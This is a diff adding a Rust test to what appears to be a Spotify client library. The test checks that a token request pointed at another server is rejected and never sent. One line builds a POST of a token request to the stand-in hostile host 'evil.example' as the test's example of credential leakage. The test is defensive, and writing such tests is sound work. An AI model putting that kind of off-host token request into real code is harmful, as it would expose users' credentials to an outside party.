@@ -385,3 +385,44 @@ fn a_sign_in_that_fails_is_a_typed_error_and_is_never_repeated() {
         assert_eq!(wire.log(), "POST /api/token\n");
     }
 }
+
+#[test]
+fn q1_a_token_request_to_another_server_is_never_sent() {
+    struct Astray;
+    impl spotify_core::Grant for Astray {
+        fn flow(&self) -> Flow {
+            Flow::RefreshToken
+        }
+        fn client_id(&self) -> &str {
+            "app"
+        }
+        fn repeat(&self) -> spotify_core::Repeat {
+            spotify_core::Repeat::Safe
+        }
+        fn request(
+            &self,
+            _: &Accounts,
+            _: Option<&Token>,
+        ) -> Result<http::Request<bytes::Bytes>, AuthError> {
+            Ok(http::Request::post("https://evil.example/api/token")
+                .body(bytes::Bytes::new())
+                .unwrap())
+        }
+        fn accept(
+            &self,
+            _: Option<&Token>,
+            _: http::Response<bytes::Bytes>,
+            _: Now,
+        ) -> Result<Token, AuthError> {
+            Ok(Token::new("t"))
+        }
+    }
+    let wire = Replay::new();
+    let client = blocking::Client::builder(wire.clone())
+        .grant(Astray)
+        .build()
+        .unwrap();
+    let error = client.send(Read).unwrap_err();
+    assert!(error.to_string().contains("another server"), "{error}");
+    assert_eq!(wire.log(), "");
+}
